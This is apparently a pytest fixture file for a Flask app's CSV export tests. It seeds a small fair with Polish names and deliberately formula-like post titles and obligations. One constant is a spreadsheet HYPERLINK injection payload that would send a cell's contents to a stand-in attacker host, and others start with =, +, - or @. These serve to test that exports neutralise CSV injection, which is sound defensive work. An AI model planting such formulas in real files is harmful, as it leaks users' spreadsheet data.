"""A small scripted fair for the export tests: `scripted` (Polish names, formula-looking posts, a
check-in and a signed agreement; it needs the `make_signed_agreement` fixture), `as_organiser`
(logged in as its organiser), and `read_csv` / `get` to read a download back."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from dataclasses import dataclass
from datetime import date

import pytest
from flask.testing import FlaskClient

from app.agreements.drafting import ObligationData
from app.agreements.models import Agreement
from app.door.checkin import check_in
from app.fairs.models import Fair
from app.floor.kinds import PostKind, Unit
from app.floor.models import Post
from app.network.sectors import Sector
from app.people.models import Participant

BOM = b"\xef\xbb\xbf"
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A1;"Kliknij")'


@dataclass
class Scripted:
    fair: Fair
    organiser: Participant
    people: list[Participant]
    agreement: Agreement
    posts: list[Post]


@pytest.fixture
def scripted(trading_fair: Fair, organiser: Participant, notary: Participant,
             make_participant: Callable[..., Participant], make_post: Callable[..., Post],
             make_signed_agreement: Callable[..., Agreement]) -> Scripted:
    """A small fair with Polish names, a formula-looking post, a check-in and a signed agreement."""
    ala = make_participant("Łucja", "Żółkiewska", organisation="Fundacja „Źdźbło”", sector=Sector.NGO,
                           phone="+48 600 100 200", email="lucja@example.org", password="Hasło-łucji-123")
    jan = make_participant("Grzegorz", "Brzęczyszczykiewicz", organisation="Spółdzielnia Socjalna Łąka",
                           sector=Sector.SOCIAL_COOPERATIVE, email="grzegorz@example.org")
    posts = [
        make_post(ala, title=FORMULA_TITLE, details="-2+3 i @SUMA(A1)", quantity=3, unit=Unit.HOURS),
        make_post(jan, title="@dom kultury — sala", kind=PostKind.NEED, category_key="equipment",
                  details="=2+5 godzin pracy"),
        make_post(jan, title="+ rzutnik multimedialny"),
    ]
    check_in(organiser, trading_fair.id, ala.badge_code)
    agreement = make_signed_agreement(ala, jan, obligations=[
        ObligationData(ala.organisation_id, jan.organisation_id, "Sala konferencyjna — żółta", quantity=3,
                       unit=Unit.HOURS, points=30, due_date=date(2027, 3, 14)),
        ObligationData(jan.organisation_id, ala.organisation_id, "=1+1 szkolenie", hours=4, points=40),
    ])
    return Scripted(trading_fair, organiser, [organiser, notary, ala, jan], agreement, posts)


@pytest.fixture
def as_organiser(scripted: Scripted, login: Callable[[Participant], None]) -> Scripted:
    login(scripted.organiser)
    return scripted


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(BOM), "Excel needs the byte order mark to read UTF-8"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def get(client: FlaskClient, path: str) -> bytes:
    r = client.get(path)
    assert r.status_code == 200, r.data[:500]
    assert r.headers["Cache-Control"] == "no-store"
    assert r.headers["Content-Disposition"].startswith("attachment; filename=")
    return r.data
